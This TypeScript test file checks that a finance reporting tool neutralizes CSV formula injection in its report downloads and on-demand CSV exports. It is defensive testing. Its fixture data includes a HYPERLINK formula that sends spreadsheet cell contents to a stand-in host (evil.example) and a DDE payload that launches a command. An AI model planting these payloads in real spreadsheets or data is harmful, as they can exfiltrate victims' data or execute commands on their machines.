// Formula injection through CSV (issue 19, item 3): transactions imported with `finapi transactions import` whose
// text a spreadsheet would run (`=HYPERLINK(…)`, `@SUM(…)`, `+cmd`, `-2+3`, a leading tab) reach a report file and
// the on-demand CSV with a leading `'`, plain numbers (`-12.50`) stay as they are, and every value is recovered
// from its cell by removing that one `'`. XML and JSON carry the text as it is.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { recoverFormula } from '../../src/reporting/csv-cell.js'
import { parseCsvLine } from '../../src/reporting/transactions/csv.js'
import { runFinapi } from '../support/cli.js'
import { FakeClock, startTestApp, type TestApp } from '../support/harness.js'
import { get } from '../support/on-demand.js'
import { createReport, getRaw, settle } from '../support/reports.js'

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
/** Each imported transaction's first and last names, and what their CSV cells must read (before CSV quoting). */
const NAMES: [first: string, last: string, firstCell: string, lastCell: string][] = [
  [HYPERLINK, '@SUM(1+1)*cmd|"/C calc"!A0', `'${HYPERLINK}`, `'@SUM(1+1)*cmd|"/C calc"!A0`],
  ['+cmd', '-2+3', "'+cmd", "'-2+3"],
  ['\tTabbed', "'=already quoted", "'\tTabbed", "''=already quoted"],
  ['Ann', "O'Neil", 'Ann', "O'Neil"],
  ['-12.50', '+15551234567', '-12.50', '+15551234567'],
]

let t: TestApp
let dir: string
beforeAll(async () => {
  t = await startTestApp({ clock: new FakeClock(new Date('2026-02-01T00:00:00Z')) })
  dir = mkdtempSync(join(tmpdir(), 'finapi-csv-formulas-'))
  const path = join(dir, 'hostile.ndjson')
  const lines = NAMES.map(([FirstName, LastName], i) => {
    const at = `2020-04-01T1${i}:00:00.000Z`
    // A refund, so that a report with signed amounts writes a negative amount beside the names.
    return JSON.stringify({ organizationId: 'testrest', requestId: `880000000000000000000${i}`, type: i === 4 ? 'refund' : 'sale', requestTime: at, submissionTime: at, currency: 'USD', amount: '12.50', fields: { BillTo: { FirstName, LastName } } })
  })
  writeFileSync(path, lines.join('\n') + '\n')
  const res = await runFinapi(['transactions', 'import', path], { MODE: 'sandbox', DATABASE_URL: t.config.databaseUrl, LOG_LEVEL: 'warn' })
  expect(res.stderr).toBe('')
  expect(res.stdout).toContain(`Imported ${NAMES.length} transactions`)
})
afterAll(async () => {
  await t.close()
  rmSync(dir, { recursive: true, force: true })
})

/** A CSV body's records after its header, as cells (no cell here holds a line break). */
const records = (text: string) => text.trimEnd().split('\r\n').slice(1).map(parseCsvLine)

describe('CSV formula injection', () => {
  it('neutralizes formulas in a report file, leaves plain numbers alone, and keeps every value recoverable', async () => {
    const fields = ['Request.RequestID', 'BillTo.FirstName', 'BillTo.LastName', 'PaymentData.Amount']
    const body = { reportDefinitionName: 'GatewayTransactionRequestClass', reportFields: fields, timezone: 'GMT', reportStartTime: '2020-04-01T00:00:00Z', reportEndTime: '2020-04-02T00:00:00Z' }
    for (const [reportName, reportMimeType] of [['hostile csv', 'text/csv'], ['hostile json', 'application/json']]) {
      const res = await createReport(t, { ...body, reportName, reportMimeType })
      expect(res.status, res.text).toBe(201)
    }
    await settle(t)
    const csv = (await getRaw(t, '/reporting/v3/report-downloads?reportName=hostile%20csv&reportDate=2020-04-01')).body.toString('utf8')
    // The issue's reproducer, byte for byte: quoted for its commas and quotes, after the `'`.
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
    const rows = records(csv)
    expect(rows.map((r) => [r[1], r[2]])).toEqual(NAMES.map(([, , first, last]) => [first, last]))
    expect(rows.map((r) => r[3])).toEqual(['12.50', '12.50', '12.50', '12.50', '-12.50'])
    expect(rows.map((r) => [recoverFormula(r[1]!), recoverFormula(r[2]!)])).toEqual(NAMES.map(([first, last]) => [first, last]))
    // JSON is a data format, not a spreadsheet: the text as it is.
    const json = JSON.parse((await getRaw(t, '/reporting/v3/report-downloads?reportName=hostile%20json&reportDate=2020-04-01')).body.toString('utf8'))
    expect(json.records.map((r: Record<string, string>) => r['BillTo.FirstName'])).toEqual(NAMES.map(([first]) => first))
  })

  it('neutralizes formulas in the on-demand CSV (purchase and refund details) too', async () => {
    const res = await get(t, '/reporting/v3/purchase-refund-details?startTime=2020-04-01T00:00:00Z&endTime=2020-04-02T00:00:00Z', { accept: 'text/csv' })
    expect(res.status).toBe(200)
    const [header, ...rest] = res.text.trimEnd().split('\r\n').map(parseCsvLine)
    const [first, last] = [header!.indexOf('firstName'), header!.indexOf('lastName')]
    expect(rest.map((r) => [r[first], r[last]])).toEqual(NAMES.map(([, , firstCell, lastCell]) => [firstCell, lastCell]))
    const json = await get(t, '/reporting/v3/purchase-refund-details?startTime=2020-04-01T00:00:00Z&endTime=2020-04-02T00:00:00Z')
    expect(json.json.others.map((o: { firstName: string }) => o.firstName)).toEqual(NAMES.map(([firstName]) => firstName))
  })
})
